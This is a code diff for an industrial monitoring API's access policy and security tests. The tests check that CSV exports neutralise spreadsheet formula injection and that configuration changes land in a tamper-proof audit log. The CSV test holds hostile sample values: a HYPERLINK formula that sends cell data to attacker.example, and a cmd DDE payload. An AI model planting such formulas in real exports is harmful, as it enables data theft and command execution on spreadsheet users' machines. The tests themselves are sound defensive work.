@@ -54,6 +54,7 @@ POLICY = {
     ("GET", "/api/v1/points/{point_id}/trend"): "viewer",
     ("GET", "/api/v1/points/{point_id}/waterfall"): "viewer",
     ("GET", "/api/v1/dashboard/overview"): "viewer",
+    ("GET", "/api/v1/dashboard/sites"): "viewer",
     ("GET", "/api/v1/dashboard/assets/{asset_id}"): "viewer",
     ("GET", "/api/v1/dashboard/points/{point_id}/series"): "viewer",
     ("GET", "/api/v1/dashboard/points/{point_id}/window"): "viewer",
@@ -61,6 +62,7 @@ POLICY = {
     ("GET", "/api/v1/alarms"): "viewer",
     ("GET", "/api/v1/alarms/history"): "viewer",
     ("GET", "/api/v1/alarms/rules"): "viewer",
+    ("GET", "/api/v1/alarms/history.csv"): "viewer",
     # measuring
     ("POST", "/api/v1/points/{point_id}/records"): "technician",
     ("POST", "/api/v1/points/{point_id}/records/file"): "technician",
@@ -84,6 +86,8 @@ POLICY = {
     ("PUT", "/api/v1/points/{point_id}"): "engineer",
     ("POST", "/api/v1/routes"): "engineer",
     ("PUT", "/api/v1/routes/{route_id}"): "engineer",
+    ("GET", "/api/v1/audit"): "engineer",
+    ("GET", "/api/v1/audit.csv"): "engineer",
     # administration
     ("GET", "/api/v1/users"): "admin",
     ("POST", "/api/v1/users"): "admin",
@@ -279,3 +283,70 @@ def test_the_sql_check_can_fail():
     assert _built_string(call.args[0])
     assert not _built_string(ast.parse('f"PRAGMA busy_timeout={int(ms)}"').body[0].value)
     assert _built_string(ast.parse('"{" + ",".join(path) + "}"').body[0].value)
+
+
+def test_csv_exports_cannot_inject_formulas(app, users, plant, hw_settings, migrated_db):
+    import csv
+    import io
+
+    from alarms.helpers import Feeder, make_result
+
+    from server.alarms import service
+    from server.audit import csv_cell
+
+    feeder = Feeder(migrated_db, hw_settings)
+    for v in (0.2, 0.3, 1.5, 1.6, 3.0, 3.1):  # the pump's point goes into alarm
+        feeder.feed(plant.point_id, make_result(half_v=v))
+    state = service.list_alarms(migrated_db)[0]
+    hostile = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
+    eng = users.login("engineer")
+    r = eng.post(f"/api/v1/alarms/{state['id']}/acknowledge", json={"comment": hostile})
+    assert r.status_code == 200, r.text
+    r = eng.get("/api/v1/alarms/history.csv")
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
+    assert "attachment" in r.headers["content-disposition"]
+    rows = list(csv.DictReader(io.StringIO(r.text)))
+    comments = [row["comment"] for row in rows if row["kind"] == "acknowledged"]
+    assert comments == ["'" + hostile]  # shown as text by a spreadsheet, never run
+    for cell in [row[k] for row in rows for k in row]:
+        assert not cell.startswith(("=", "+", "@")), cell
+    # the escaping itself (OWASP CSV injection guidance, from memory): numbers stay numbers
+    assert [csv_cell(v) for v in ("-1.5", "+cmd|' /C calc'!A0", "@SUM(1)", "\tx", -2.0, "plain")] == \
+        ["-1.5", "'+cmd|' /C calc'!A0", "'@SUM(1)", "'\tx", "-2.0", "plain"]
+
+
+def test_configuration_changes_and_acknowledgements_are_audited(app, users, plant, migrated_db):
+    from sqlalchemy import text
+    from sqlalchemy.exc import DatabaseError
+
+    admin = users.login("admin")
+    eng = users.login("engineer")
+    r = eng.put("/api/v1/alarms/rules", json={"point_id": plant.point_id, "metric": "half_order_velocity",
+                                              "alert": 1.2, "danger": 2.5})
+    assert r.status_code == 200, r.text
+    r = eng.post("/api/v1/sites", json={"name": "Quarry pumps"})
+    assert r.status_code == 201, r.text
+    r = admin.post("/api/v1/apikeys", json={"name": "gateway B", "role": "technician"})
+    assert r.status_code == 201
+    key, key_id = r.json()["key"], r.json()["api_key"]["id"]
+    assert admin.delete(f"/api/v1/apikeys/{key_id}").status_code == 200
+    r = admin.patch(f"/api/v1/users/{users.ids['viewer']}", json={"role": "technician"})
+    assert r.status_code == 200
+    r = eng.get("/api/v1/audit")
+    assert r.status_code == 200
+    changes = r.json()["changes"]
+    seen = {(c["action"], c["target"]) for c in changes}
+    assert {("set", "alarm_rule"), ("create", "site"), ("create", "api_key"), ("revoke", "api_key"),
+            ("update", "user")} <= seen
+    by = {(c["action"], c["target"]): c for c in changes}
+    assert by[("set", "alarm_rule")]["actor"] == "engineer1"
+    assert by[("create", "site")]["details"]["values"]["name"] == "Quarry pumps"
+    assert by[("revoke", "api_key")]["actor"] == "user:admin1"
+    assert key not in r.text  # the secret is never written to the trail
+    # the trail is append-only in the database itself (triggers from migration 0004)
+    with pytest.raises(DatabaseError):
+        with migrated_db.unit_of_work() as s:
+            s.execute(text("UPDATE config_changes SET actor = 'someone else'"))
+    with pytest.raises(DatabaseError):
+        with migrated_db.unit_of_work() as s:
+            s.execute(text("DELETE FROM config_changes"))
